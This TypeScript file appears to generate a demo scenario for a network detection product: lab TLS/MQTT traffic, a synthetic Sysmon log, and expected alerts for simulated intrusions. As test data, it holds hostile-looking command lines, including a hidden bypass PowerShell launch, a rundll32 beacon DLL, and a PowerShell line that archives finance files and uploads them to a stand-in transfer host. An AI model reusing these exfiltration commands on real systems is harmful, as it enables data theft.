/**
 * Demo scenario generator: one capture plus the Sysmon log of the same window, for the replay
 * demo and the lead's golden test. Real traffic — Node TLS clients/servers (self-signed and a
 * root → issuing CA → server chain), mosquitto with TLS and mosquitto_sub clients, a raw TCP
 * channel of random bytes — is captured in network namespaces, then re-addressed and re-timed
 * into the scenario with lab/pcap-rewrite.ts (fixed hosts, IPs, client ports, times). The
 * Sysmon log (flat OTRF JSON lines, EventID 1/3/7/11/22) is written by this file for the processes
 * the scenario says made each connection; it is fully deterministic. The pcap's packet payloads
 * (TLS randomness, exact intra-flow timing) differ between runs; its addresses, ports and flow
 * start times do not. The committed pcaps/demo files come from one run of this script.
 *
 * The scenario (also in pcaps/demo/README.md and expected-alerts.json) is SCENARIO below.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { createLab, type Lab } from './netns.js';
import { peerProgram } from './peer-programs.js';
import { rewritePcap, scanPcap } from './pcap-rewrite.js';

export const DEMO_T0 = Date.UTC(2026, 10, 2, 9, 0, 0); // 2026-11-02 09:00:00 UTC

export interface DemoHost {
  name: string;
  ip: string;
  guidPrefix: string; // first 8 hex digits of every ProcessGuid on the host (Sysmon does this)
  user: string;
}

export const HOSTS = {
  WS01: { name: 'WS01.corp.example', ip: '10.10.1.11', guidPrefix: '5a1e0c01', user: 'CORP\\alice' },
  WS02: { name: 'WS02.corp.example', ip: '10.10.1.12', guidPrefix: '5a1e0c02', user: 'CORP\\bob' },
  WS03: { name: 'WS03.corp.example', ip: '10.10.1.13', guidPrefix: '5a1e0c03', user: 'CORP\\dave' },
  WS04: { name: 'WS04.corp.example', ip: '10.10.1.14', guidPrefix: '5a1e0c04', user: 'CORP\\erin' },
  FIN: { name: 'FIN-LAPTOP3.corp.example', ip: '10.10.2.23', guidPrefix: 'f1a70003', user: 'CORP\\carol' },
} as const satisfies Record<string, DemoHost>;

export const IMAGES = {
  chrome: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  rundll32: 'C:\\Windows\\System32\\rundll32.exe',
  powershell: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  telemetry: 'C:\\Program Files\\Contoso\\Telemetry\\telemetry-agent.exe',
  updater: 'C:\\Program Files (x86)\\Contoso\\Update\\ContosoUpdate.exe',
  notepad: 'C:\\Windows\\System32\\notepad.exe',
  python: 'C:\\Program Files\\Python312\\python.exe',
  backup: 'C:\\Program Files\\Contoso\\Backup\\backupd.exe',
  sevenZip: 'C:\\Program Files\\7-Zip\\7z.exe',
  explorer: 'C:\\Windows\\explorer.exe',
  services: 'C:\\Windows\\System32\\services.exe',
} as const;

/** The analytics config the demo expects (approved pub/sub app and broker). */
export const DEMO_ANALYTICS_CONFIG = {
  approvedPubSubApps: ['telemetry-agent.exe'],
  approvedPubSubDestinations: ['mqtt.contoso-iot.example'],
};

type PeerSpec =
  | { kind: 'tls' | 'raw'; labPort: number; servername?: string; upload: number; chunk: number; get?: boolean; pauseMs?: number }
  | { kind: 'mqtt'; labPort: number; servername: string; keepAliveS: number; durationS: number; clientId: string; topic: string };

export interface DemoFlow {
  id: string;
  host: keyof typeof HOSTS;
  image: keyof typeof IMAGES;
  /** Process instance within the host (flows of one process share it). */
  proc: string;
  commandLine: string;
  server: { ip: string; port: number; name: string | null };
  clientPort: number;
  /** Scenario start of the connection, ms after DEMO_T0. */
  atMs: number;
  /** Time stretch applied inside the connection (keep-alive cadence 5 s → 30 s). */
  scale: number;
  peer: PeerSpec;
  expect: string[]; // analytics expected to alert
  why: string;
}

const MIN = 60_000;

export const SCENARIO: DemoFlow[] = [
  { id: 'f01', host: 'WS01', image: 'chrome', proc: 'chrome', commandLine: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility', server: { ip: '192.0.2.80', port: 4444, name: null }, clientPort: 50_101, atMs: 5_000, scale: 1, peer: { kind: 'tls', labPort: 4444, upload: 0, chunk: 0, get: true }, expect: [], why: 'browser: excluded from AN0922 even on the same uncommon-port destination' },
  ...[0, 1, 2, 3, 4, 5].map((k): DemoFlow => ({
    id: `f0${2 + k}`, host: 'WS01', image: 'rundll32', proc: 'rundll32-c2', commandLine: 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\upd.dll,Start', server: { ip: '192.0.2.80', port: 4444, name: null }, clientPort: 50_111 + k, atMs: 1 * MIN + k * MIN, scale: 1,
    peer: { kind: 'tls', labPort: 4444, upload: 310, chunk: 310 }, expect: ['AN0922'], why: 'rundll32 check-in every 60 s over TLS without SNI to a self-signed server on port 4444 (one alert, count 6)',
  })),
  { id: 'f08', host: 'WS02', image: 'powershell', proc: 'powershell-mqtt', commandLine: 'powershell.exe -nop -w hidden -ep bypass -f C:\\Users\\bob\\AppData\\Roaming\\m.ps1', server: { ip: '198.51.100.20', port: 8883, name: 'broker.iot-relay.example' }, clientPort: 50_201, atMs: 2 * MIN, scale: 6, peer: { kind: 'mqtt', labPort: 8883, servername: 'broker.iot-relay.example', keepAliveS: 5, durationS: 22, clientId: 'c2-ws02', topic: 'dev/ws02/cmd' }, expect: ['AN0002'], why: 'PowerShell speaking MQTT over TLS to an external broker, keep-alive every 30 s' },
  { id: 'f09', host: 'WS03', image: 'telemetry', proc: 'telemetry', commandLine: '"C:\\Program Files\\Contoso\\Telemetry\\telemetry-agent.exe" --service', server: { ip: '198.51.100.30', port: 8883, name: 'mqtt.contoso-iot.example' }, clientPort: 50_301, atMs: 2 * MIN + 30_000, scale: 6, peer: { kind: 'mqtt', labPort: 18_883, servername: 'mqtt.contoso-iot.example', keepAliveS: 5, durationS: 12, clientId: 'telemetry-ws03', topic: 'fleet/ws03/config' }, expect: [], why: 'approved pub/sub app to the approved broker (DEMO_ANALYTICS_CONFIG)' },
  { id: 'f10', host: 'WS03', image: 'updater', proc: 'updater', commandLine: '"C:\\Program Files (x86)\\Contoso\\Update\\ContosoUpdate.exe" /check', server: { ip: '203.0.113.40', port: 443, name: 'dl.new-cdn.example' }, clientPort: 50_302, atMs: 3 * MIN, scale: 1, peer: { kind: 'tls', labPort: 8443, servername: 'dl.new-cdn.example', upload: 0, chunk: 0, get: true }, expect: [], why: 'update agent, TLS to a new destination: it has network history (no AN0759) and nothing was staged (no AN1413)' },
  { id: 'f11', host: 'WS03', image: 'notepad', proc: 'notepad', commandLine: '"C:\\Windows\\System32\\notepad.exe"', server: { ip: '192.0.2.50', port: 443, name: null }, clientPort: 50_303, atMs: 4 * MIN, scale: 1, peer: { kind: 'tls', labPort: 9443, upload: 300_000, chunk: 16_000 }, expect: ['AN0759'], why: 'notepad has never used the network; it loads schannel/winhttp and uploads 300 kB over TLS to a self-signed server' },
  { id: 'f12', host: 'WS04', image: 'python', proc: 'python', commandLine: 'python.exe C:\\Users\\erin\\tools\\sync.py --key-file k.bin', server: { ip: '203.0.113.66', port: 9001, name: null }, clientPort: 50_401, atMs: 5 * MIN, scale: 1, peer: { kind: 'raw', labPort: 9001, upload: 24_000, chunk: 1_200, pauseMs: 40 }, expect: ['AN1389'], why: 'python sends random bytes that are not TLS or any known protocol (custom AES) to a destination new for the host' },
  { id: 'f13', host: 'FIN', image: 'backup', proc: 'backup', commandLine: '"C:\\Program Files\\Contoso\\Backup\\backupd.exe" --nightly', server: { ip: '203.0.113.77', port: 443, name: 'vault.backup-svc.example' }, clientPort: 50_501, atMs: 7 * MIN, scale: 1, peer: { kind: 'tls', labPort: 8443, servername: 'vault.backup-svc.example', upload: 400_000, chunk: 16_000 }, expect: [], why: 'backup tool uploads after compressing, to the server it used before (EDR history): familiar destination' },
  { id: 'f14', host: 'FIN', image: 'powershell', proc: 'powershell-exfil', commandLine: 'powershell.exe -nop -c "& 7z.exe a -pS3cr3t C:\\Users\\carol\\AppData\\Local\\Temp\\q3-finance.7z C:\\Finance\\Q3\\*; iwr -Method Put -InFile $env:TEMP\\q3-finance.7z https://files.transfer-drop.example/u/8f2k"', server: { ip: '198.51.100.99', port: 443, name: 'files.transfer-drop.example' }, clientPort: 50_502, atMs: 9 * MIN, scale: 1, peer: { kind: 'tls', labPort: 8443, servername: 'files.transfer-drop.example', upload: 400_000, chunk: 16_000 }, expect: ['AN1413'], why: 'PowerShell uploads 400 kB over TLS to a new destination one minute after 7z (its child) wrote q3-finance.7z; PowerShell has network history in the fleet (WS02), so AN0759 stays quiet' },
  { id: 'f15', host: 'FIN', image: 'chrome', proc: 'chrome', commandLine: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', server: { ip: '198.51.100.99', port: 443, name: 'files.transfer-drop.example' }, clientPort: 50_503, atMs: 10 * MIN, scale: 1, peer: { kind: 'tls', labPort: 8443, servername: 'files.transfer-drop.example', upload: 0, chunk: 0, get: true }, expect: [], why: 'browser on the same destination after the same staging: browsers are excluded' },
];

// ---------------------------------------------------------------------------------------------
// Sysmon log

interface ProcInstance {
  host: DemoHost;
  image: string;
  guid: string;
  pid: number;
  startMs: number; // absolute
  commandLine: string;
  user: string;
  parentImage: string;
  parentGuid: string;
}

function utc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

let guidSeq = 0;
function guidFor(host: DemoHost, startMs: number): string {
  const s = Math.floor(startMs / 1000).toString(16).padStart(8, '0');
  guidSeq++;
  return `{${host.guidPrefix}-${s.slice(4)}-${s.slice(0, 4)}-${(0x1000 + guidSeq).toString(16)}-${(0x0a0000000000 + guidSeq * 0x1111).toString(16).padStart(12, '0')}}`;
}

function base(host: DemoHost, eid: number, ms: number): Record<string, string | number> {
  return {
    SourceName: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: eid, Hostname: host.name,
    '@timestamp': new Date(ms).toISOString(), UtcTime: utc(ms), RuleName: '-',
  };
}

export function buildSysmon(): string[] {
  guidSeq = 0;
  const ev: { ms: number; e: Record<string, string | number> }[] = [];
  const push = (ms: number, e: Record<string, string | number>): void => { ev.push({ ms, e }); };
  const procs = new Map<string, ProcInstance>();
  let pid = 4000;
  const parentGuids = new Map<string, string>();
  const explorerOf = (h: DemoHost): string => {
    let g = parentGuids.get(h.name);
    if (!g) { g = guidFor(h, DEMO_T0 - 3 * 3600_000); parentGuids.set(h.name, g); }
    return g;
  };
  const startProc = (key: string, h: DemoHost, image: string, startMs: number, cmd: string, parent?: ProcInstance): ProcInstance => {
    const p: ProcInstance = {
      host: h, image, guid: guidFor(h, startMs), pid: (pid += 36), startMs, commandLine: cmd, user: image === IMAGES.backup || image === IMAGES.updater ? 'NT AUTHORITY\\SYSTEM' : h.user,
      parentImage: parent?.image ?? (image === IMAGES.backup || image === IMAGES.updater || image === IMAGES.telemetry ? IMAGES.services : IMAGES.explorer),
      parentGuid: parent?.guid ?? explorerOf(h),
    };
    procs.set(key, p);
    push(startMs, {
      ...base(h, 1, startMs), ProcessGuid: p.guid, ProcessId: String(p.pid), Image: image, FileVersion: '-', Description: '-', Product: '-', Company: '-',
      OriginalFileName: image.slice(image.lastIndexOf('\\') + 1), CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\System32\\', User: p.user,
      LogonGuid: `{${h.guidPrefix}-0000-0000-0000-000000000001}`, LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium', Hashes: '-',
      ParentProcessGuid: p.parentGuid, ParentProcessId: '1200', ParentImage: p.parentImage, ParentCommandLine: p.parentImage, ParentUser: h.user,
    });
    return p;
  };
  const load = (p: ProcInstance, ms: number, dll: string): void => {
    push(ms, {
      ...base(p.host, 7, ms), ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image, ImageLoaded: `C:\\Windows\\System32\\${dll}`,
      FileVersion: '-', Description: '-', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: dll, Hashes: '-',
      Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: p.user,
    });
  };
  const conn = (p: ProcInstance, ms: number, srcPort: number, dst: { ip: string; port: number; name: string | null }): void => {
    push(ms, {
      ...base(p.host, 3, ms), ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image, User: p.user, Protocol: 'tcp', Initiated: 'true',
      SourceIsIpv6: 'false', SourceIp: p.host.ip, SourceHostname: p.host.name, SourcePort: String(srcPort), SourcePortName: '-',
      DestinationIsIpv6: 'false', DestinationIp: dst.ip, DestinationHostname: dst.name ?? '-', DestinationPort: String(dst.port), DestinationPortName: dst.port === 443 ? 'https' : '-',
    });
  };
  const dns = (p: ProcInstance, ms: number, name: string, ip: string): void => {
    push(ms, { ...base(p.host, 22, ms), ProcessGuid: p.guid, ProcessId: String(p.pid), QueryName: name, QueryStatus: '0', QueryResults: `::ffff:${ip};`, Image: p.image, User: p.user });
  };
  const file = (p: ProcInstance, ms: number, path: string): void => {
    push(ms, { ...base(p.host, 11, ms), ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image, TargetFilename: path, CreationUtcTime: utc(ms), User: p.user });
  };

  const T = DEMO_T0;
  // --- history before the capture window (gives images their network history) ---
  const hist = (key: string, h: DemoHost, image: string, cmd: string, at: number, dst: { ip: string; port: number; name: string | null }, port: number): ProcInstance => {
    const p = startProc(key, h, image, at - 30_000, cmd);
    if (dst.name) dns(p, at - 500, dst.name, dst.ip);
    conn(p, at, port, dst);
    return p;
  };
  hist('WS01.chrome', HOSTS.WS01, IMAGES.chrome, SCENARIO[0]!.commandLine, T - 50 * MIN, { ip: '203.0.113.5', port: 443, name: 'intranet-portal.example' }, 49_801);
  hist('WS01.rundll32-old', HOSTS.WS01, IMAGES.rundll32, 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL inetcpl.cpl', T - 45 * MIN, { ip: '10.10.0.5', port: 80, name: 'wpad.corp.example' }, 49_802);
  hist('WS02.powershell-mqtt', HOSTS.WS02, IMAGES.powershell, SCENARIO[7]!.commandLine, T - 40 * MIN, { ip: '10.10.0.8', port: 443, name: 'intranet.corp.example' }, 49_803);
  hist('WS03.telemetry', HOSTS.WS03, IMAGES.telemetry, SCENARIO[8]!.commandLine, T - 40 * MIN, { ip: '198.51.100.30', port: 8883, name: 'mqtt.contoso-iot.example' }, 49_804);
  hist('WS03.updater', HOSTS.WS03, IMAGES.updater, SCENARIO[9]!.commandLine, T - 35 * MIN, { ip: '203.0.113.41', port: 443, name: 'update.contoso.example' }, 49_805);
  hist('FIN.backup', HOSTS.FIN, IMAGES.backup, SCENARIO[12]!.commandLine, T - 30 * MIN, { ip: '203.0.113.77', port: 443, name: 'vault.backup-svc.example' }, 49_806);
  hist('FIN.chrome', HOSTS.FIN, IMAGES.chrome, SCENARIO[14]!.commandLine, T - 25 * MIN, { ip: '203.0.113.5', port: 443, name: 'intranet-portal.example' }, 49_807);

  // --- processes started inside the window ---
  const rd = startProc('WS01.rundll32-c2', HOSTS.WS01, IMAGES.rundll32, T + 50_000, SCENARIO[1]!.commandLine);
  for (const d of ['ws2_32.dll', 'winhttp.dll', 'schannel.dll']) load(rd, T + 50_500, d);
  const np = startProc('WS03.notepad', HOSTS.WS03, IMAGES.notepad, T + 3 * MIN + 20_000, SCENARIO[10]!.commandLine);
  for (const d of ['schannel.dll', 'ncryptsslp.dll', 'winhttp.dll', 'ws2_32.dll']) load(np, T + 4 * MIN - 2_000, d);
  const py = startProc('WS04.python', HOSTS.WS04, IMAGES.python, T + 4 * MIN + 40_000, SCENARIO[11]!.commandLine);
  for (const d of ['bcrypt.dll', 'rsaenh.dll', 'ws2_32.dll']) load(py, T + 4 * MIN + 41_000, d);
  // staging on FIN-LAPTOP3: the backup tool's own archive, then 7z under the exfil PowerShell
  file(procs.get('FIN.backup')!, T + 6 * MIN, 'D:\\Backup\\nightly-20261102.zip');
  const ps = startProc('FIN.powershell-exfil', HOSTS.FIN, IMAGES.powershell, T + 7 * MIN + 50_000, SCENARIO[13]!.commandLine);
  const sz = startProc('FIN.7z', HOSTS.FIN, IMAGES.sevenZip, T + 8 * MIN, '7z.exe a -pS3cr3t C:\\Users\\carol\\AppData\\Local\\Temp\\q3-finance.7z C:\\Finance\\Q3\\*', ps);
  file(sz, T + 8 * MIN + 20_000, 'C:\\Users\\carol\\AppData\\Local\\Temp\\q3-finance.7z');
  for (const d of ['System.Net.Http.dll', 'System.Net.Security.dll', 'schannel.dll']) load(ps, T + 9 * MIN - 3_000, d);

  // --- one EID 3 (and EID 22 for named destinations) per scenario connection ---
  const procKey: Record<string, string> = {
    'WS01.chrome': 'WS01.chrome', 'WS01.rundll32-c2': 'WS01.rundll32-c2', 'WS02.powershell-mqtt': 'WS02.powershell-mqtt', 'WS03.telemetry': 'WS03.telemetry',
    'WS03.updater': 'WS03.updater', 'WS03.notepad': 'WS03.notepad', 'WS04.python': 'WS04.python', 'FIN.backup': 'FIN.backup',
    'FIN.powershell-exfil': 'FIN.powershell-exfil', 'FIN.chrome': 'FIN.chrome',
  };
  for (const f of SCENARIO) {
    const p = procs.get(procKey[`${f.host}.${f.proc}`]!)!;
    const at = T + f.atMs;
    if (f.server.name) dns(p, at - 800, f.server.name, f.server.ip);
    conn(p, at + 3, f.clientPort, f.server);
  }
  ev.sort((a, b) => a.ms - b.ms);
  return ev.map((x) => JSON.stringify(x.e));
}

// ---------------------------------------------------------------------------------------------
// Expected alerts and the README table

export function expectedAlerts(): { analytic: string; host: string; process: string; destination: { ip: string; port: number; name: string | null }; count: number; flows: string[] }[] {
  const m = new Map<string, { analytic: string; host: string; process: string; destination: { ip: string; port: number; name: string | null }; count: number; flows: string[] }>();
  for (const f of SCENARIO) {
    for (const a of f.expect) {
      const k = `${a}|${f.host}|${f.image}|${f.server.ip}:${f.server.port}`;
      const e = m.get(k);
      if (e) { e.count++; e.flows.push(f.id); } else m.set(k, { analytic: a, host: HOSTS[f.host].name, process: IMAGES[f.image], destination: f.server, count: 1, flows: [f.id] });
    }
  }
  return [...m.values()];
}

function readme(): string {
  const rows = SCENARIO.map((f) => {
    const t = new Date(DEMO_T0 + f.atMs).toISOString().slice(11, 19);
    return `| ${f.id} | ${t} | ${HOSTS[f.host].name} (${HOSTS[f.host].ip}:${f.clientPort}) | ${IMAGES[f.image].slice(IMAGES[f.image].lastIndexOf('\\') + 1)} | ${f.server.name ?? '—'} ${f.server.ip}:${f.server.port} | ${f.peer.kind === 'mqtt' ? 'MQTT/TLS' : f.peer.kind === 'raw' ? 'raw TCP' : 'TLS'} | ${f.expect.length ? f.expect.join(' + ') : 'none'} | ${f.why} |`;
  });
  return `# Demo scenario

Generated by \`lab/gen-demo.ts\` (\`generateDemo(outDir)\`, needs root: network namespaces).
Real traffic (Node TLS clients/servers, mosquitto 2 with TLS and mosquitto_sub, a raw TCP channel)
captured in namespaces, then re-addressed and re-timed into the scenario below with
\`lab/pcap-rewrite.ts\`. \`sysmon.jsonl\` is the Sysmon log of the same window (flat OTRF JSON
lines: EventID 1, 3, 7, 11, 22) for the processes the scenario says made each connection, plus
earlier events (before 09:00) that give some images their network history.

- \`demo.pcap\` — the capture (classic pcap, Ethernet), 2026-11-02 09:00–09:13 UTC.
- \`sysmon.jsonl\` — the Sysmon log.
- \`expected-alerts.json\` — the alerts the analytics must raise (analytic, host, process, destination, count).
- \`analytics-config.json\` — the analytics config the expectations assume (approved pub/sub app and broker).

The sensor's own baseline is not warm during the demo (in-memory, learning period 24 h), so the
"first seen" signals come from the EDR (\`baselineSource: "edr"\`): image network history, fleet-wide,
from the earlier EID 3 events. AN1413 on f14 says \`"none"\` (PowerShell's history says nothing about
its destinations) unless the EDR also reports host→destination history (\`Attribution.hostDestinationSeen\`),
which makes it \`"edr"\`. The self-signed servers (f01–f07, f11) speak TLS 1.2, so their certificate is
visible; the others TLS 1.3.

| flow | time (UTC) | host | process | destination | protocol | expected alert | why |
|---|---|---|---|---|---|---|---|
${rows.join('\n')}

Staging on FIN-LAPTOP3: 09:06:00 backupd.exe writes \`D:\\Backup\\nightly-20261102.zip\`;
09:08:00 7z.exe (child of the PowerShell in f14) runs and 09:08:20 writes
\`C:\\Users\\carol\\AppData\\Local\\Temp\\q3-finance.7z\`. Library loads (EID 7): notepad.exe on WS03
loads schannel.dll, ncryptsslp.dll, winhttp.dll 2 s before f11; python.exe on WS04 loads bcrypt.dll and
rsaenh.dll (no schannel) before f12.

Hosts: ${Object.values(HOSTS).map((h) => `${h.name} ${h.ip}`).join(', ')}. Certificates: f01–f07 and f11
use self-signed certificates; the rest a root → issuing CA → server chain ("Contoso Demo Root CA",
not in any trust store, valid 2026-01-01 to 2036-12-31).
`;
}

// ---------------------------------------------------------------------------------------------
// Capture

function sh(cmd: string, args: string[], cwd: string): void {
  execFileSync(cmd, args, { cwd, stdio: ['ignore', 'ignore', 'pipe'] });
}

/** Root → issuing CA → server (all scenario names), and a self-signed leaf; valid 2026-01-01..2036-12-31. */
function makeCerts(dir: string): void {
  mkdirSync(join(dir, 'newcerts'));
  writeFileSync(join(dir, 'index.txt'), '');
  writeFileSync(join(dir, 'serial'), '1000\n');
  writeFileSync(join(dir, 'ca.cnf'), `[ ca ]\ndefault_ca = d\n[ d ]\ndir = ${dir}\ndatabase = ${dir}/index.txt\nnew_certs_dir = ${dir}/newcerts\nserial = ${dir}/serial\ndefault_md = sha256\npolicy = p\nunique_subject = no\ncopy_extensions = none\n[ p ]\ncommonName = supplied\norganizationName = optional\n`);
  const names = SCENARIO.map((f) => f.server.name).filter((n): n is string => !!n);
  writeFileSync(join(dir, 'ext.cnf'), `[ root ]\nbasicConstraints = critical,CA:TRUE\nkeyUsage = critical,keyCertSign,cRLSign\nsubjectKeyIdentifier = hash\n[ int ]\nbasicConstraints = critical,CA:TRUE,pathlen:0\nkeyUsage = critical,keyCertSign,cRLSign\nsubjectKeyIdentifier = hash\nauthorityKeyIdentifier = keyid\n[ srv ]\nbasicConstraints = CA:FALSE\nkeyUsage = critical,digitalSignature,keyEncipherment\nextendedKeyUsage = serverAuth\nsubjectAltName = ${[...new Set(names)].map((n) => `DNS:${n}`).join(',')}\nauthorityKeyIdentifier = keyid\n[ self ]\nbasicConstraints = CA:FALSE\nkeyUsage = critical,digitalSignature\nextendedKeyUsage = serverAuth\n`);
  const dates = ['-startdate', '20260101000000Z', '-enddate', '20361231000000Z'];
  const req = (name: string, subj: string, alg: string[]): void => sh('openssl', ['req', '-new', '-newkey', ...alg, '-nodes', '-keyout', `${name}.key`, '-out', `${name}.csr`, '-subj', subj], dir);
  const ca = (args: string[]): void => sh('openssl', ['ca', '-batch', '-notext', '-config', 'ca.cnf', '-extfile', 'ext.cnf', ...dates, ...args], dir);
  req('ca', '/O=Contoso Demo/CN=Contoso Demo Root CA', ['rsa:2048']);
  ca(['-selfsign', '-keyfile', 'ca.key', '-extensions', 'root', '-in', 'ca.csr', '-out', 'ca.pem']);
  req('int', '/O=Contoso Demo/CN=Contoso Demo Issuing CA 1', ['rsa:2048']);
  ca(['-cert', 'ca.pem', '-keyfile', 'ca.key', '-extensions', 'int', '-in', 'int.csr', '-out', 'int.pem']);
  req('srv', '/CN=files.transfer-drop.example', ['rsa:2048']);
  ca(['-cert', 'int.pem', '-keyfile', 'int.key', '-extensions', 'srv', '-in', 'srv.csr', '-out', 'srv.pem']);
  req('self', '/CN=WIN-7Q2KD0M4JHS', ['ec', '-pkeyopt', 'ec_paramgen_curve:P-256']);
  ca(['-selfsign', '-keyfile', 'self.key', '-extensions', 'self', '-in', 'self.csr', '-out', 'self.pem']);
  writeFileSync(join(dir, 'chain.pem'), Buffer.concat([readFileSync(join(dir, 'int.pem')), readFileSync(join(dir, 'ca.pem'))]));
  writeFileSync(join(dir, 'srv-full.pem'), Buffer.concat([readFileSync(join(dir, 'srv.pem')), readFileSync(join(dir, 'int.pem'))]));
}

function waitExit(child: ReturnType<Lab['start']>, timeoutMs: number): Promise<number | null> {
  return new Promise((resolve) => {
    if (child.exitCode !== null) { resolve(child.exitCode); return; }
    const t = setTimeout(() => resolve(null), timeoutMs);
    child.once('exit', (code) => { clearTimeout(t); resolve(code); });
  });
}

async function runCapture(work: string): Promise<Buffer> {
  const lab = await createLab('dm');
  const hostsDir = `/etc/netns/${lab.client}`;
  try {
    // Names resolve to the lab server inside the client namespace (ip netns exec bind-mounts this file).
    mkdirSync(hostsDir, { recursive: true });
    const names = [...new Set(SCENARIO.map((f) => f.server.name).filter((n): n is string => !!n))];
    writeFileSync(join(hostsDir, 'hosts'), `127.0.0.1 localhost\n${names.map((n) => `${lab.serverIp} ${n}`).join('\n')}\n`);
    const server = peerProgram('demo-server.ts', work);
    const client = peerProgram('demo-client.ts', work);
    const tlsOpts = `cafile ${work}/chain.pem\ncertfile ${work}/srv-full.pem\nkeyfile ${work}/srv.key\n`;
    writeFileSync(join(work, 'mosquitto.conf'), `user root\npersistence false\nallow_anonymous true\nlog_dest none\nlistener 8883\n${tlsOpts}listener 18883\n${tlsOpts}`);
    const srv = lab.start(lab.server, 'node', [server, work]);
    const mq = lab.start(lab.server, 'mosquitto', ['-c', join(work, 'mosquitto.conf')]);
    let ready = false;
    srv.stdout?.on('data', (d: Buffer) => { if (d.toString().includes('ready')) ready = true; });
    for (let i = 0; i < 100 && !ready; i++) await sleep(50);
    if (!ready) throw new Error('demo: server did not start');
    await sleep(300);
    if (mq.exitCode !== null) throw new Error('demo: mosquitto exited');
    const pcap = join(work, 'lab.pcap');
    const stop = await lab.capture(pcap, 'ip and tcp');
    // MQTT sessions run alongside the sequential TLS/raw connections (distinct lab ports).
    const mqtt = SCENARIO.filter((f) => f.peer.kind === 'mqtt').map((f) => {
      const p = f.peer as Extract<PeerSpec, { kind: 'mqtt' }>;
      return lab.start(lab.client, 'mosquitto_sub', ['-h', p.servername, '-p', String(p.labPort), '--cafile', join(work, 'ca.pem'), '-k', String(p.keepAliveS), '-W', String(p.durationS), '-i', p.clientId, '-t', p.topic, '-q', '1']);
    });
    await sleep(500);
    for (const f of SCENARIO) {
      if (f.peer.kind === 'mqtt') continue;
      const p = f.peer;
      const arg = JSON.stringify({ kind: p.kind, host: p.servername ?? lab.serverIp, port: p.labPort, servername: p.servername ?? '', upload: p.upload, chunk: p.chunk, get: p.get ?? false, pauseMs: p.pauseMs ?? 0 });
      lab.exec(lab.client, 'node', [client, arg], { timeoutMs: 30_000 });
      await sleep(250);
    }
    for (const m of mqtt) await waitExit(m, 40_000);
    await sleep(500);
    await stop();
    return readFileSync(pcap);
  } finally {
    await lab.close();
    rmSync(hostsDir, { recursive: true, force: true });
  }
}

interface LabConn {
  clientPort: number;
  serverPort: number;
  firstUs: number;
}

/** Map the lab capture's connections onto the scenario and rewrite addresses, ports and times. */
export function retime(labPcap: Buffer, labClientIp: string, labServerIp: string): Buffer {
  const conns = new Map<number, LabConn>();
  for (const p of scanPcap(labPcap)) {
    if (!p.ipv4 || p.proto !== 6) continue;
    if (p.src === labClientIp && p.dst === labServerIp && (p.tcpFlags & 0x12) === 0x02 && !conns.has(p.sport)) conns.set(p.sport, { clientPort: p.sport, serverPort: p.dport, firstUs: p.tsUs });
  }
  // Per lab server port, connections in SYN order map onto the scenario flows using that port, in order.
  const byPort = new Map<number, LabConn[]>();
  for (const c of [...conns.values()].sort((a, b) => a.firstUs - b.firstUs)) {
    const l = byPort.get(c.serverPort) ?? [];
    l.push(c);
    byPort.set(c.serverPort, l);
  }
  const assign = new Map<number, DemoFlow>();
  const used = new Map<number, number>();
  for (const f of SCENARIO) {
    const k = used.get(f.peer.labPort) ?? 0;
    const c = byPort.get(f.peer.labPort)?.[k];
    if (!c) throw new Error(`demo: no lab connection for ${f.id} (lab port ${f.peer.labPort} #${k})`);
    used.set(f.peer.labPort, k + 1);
    assign.set(c.clientPort, f);
  }
  return rewritePcap(labPcap, (p) => {
    if (!p.ipv4 || p.proto !== 6) return null;
    const fromClient = p.src === labClientIp;
    const port = fromClient ? p.sport : p.dport;
    const f = assign.get(port);
    const c = conns.get(port);
    if (!f || !c) return null;
    const tsUs = (DEMO_T0 + f.atMs) * 1000 + (p.tsUs - c.firstUs) * f.scale;
    const h = HOSTS[f.host];
    return fromClient
      ? { tsUs, src: h.ip, dst: f.server.ip, sport: f.clientPort, dport: f.server.port }
      : { tsUs, src: f.server.ip, dst: h.ip, sport: f.server.port, dport: f.clientPort };
  });
}

/** Generate demo.pcap, sysmon.jsonl, expected-alerts.json, analytics-config.json and README.md into `outDir`. */
export async function generateDemo(outDir: string): Promise<{ packets: number; flows: number; events: number }> {
  const work = mkdtempSync(join(tmpdir(), 'ndr-demo-'));
  try {
    makeCerts(work);
    const labPcap = await runCapture(work);
    // The lab's addresses: read them back from the capture's first SYN.
    const first = scanPcap(labPcap).find((p) => p.ipv4 && (p.tcpFlags & 0x12) === 0x02);
    if (!first) throw new Error('demo: empty capture');
    const out = retime(labPcap, first.src, first.dst);
    mkdirSync(outDir, { recursive: true });
    writeFileSync(join(outDir, 'demo.pcap'), out);
    const sysmon = buildSysmon();
    writeFileSync(join(outDir, 'sysmon.jsonl'), `${sysmon.join('\n')}\n`);
    writeFileSync(join(outDir, 'expected-alerts.json'), `${JSON.stringify(expectedAlerts(), null, 2)}\n`);
    writeFileSync(join(outDir, 'analytics-config.json'), `${JSON.stringify({ analytics: DEMO_ANALYTICS_CONFIG }, null, 2)}\n`);
    writeFileSync(join(outDir, 'README.md'), readme());
    return { packets: scanPcap(out).length, flows: SCENARIO.length, events: sysmon.length };
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}
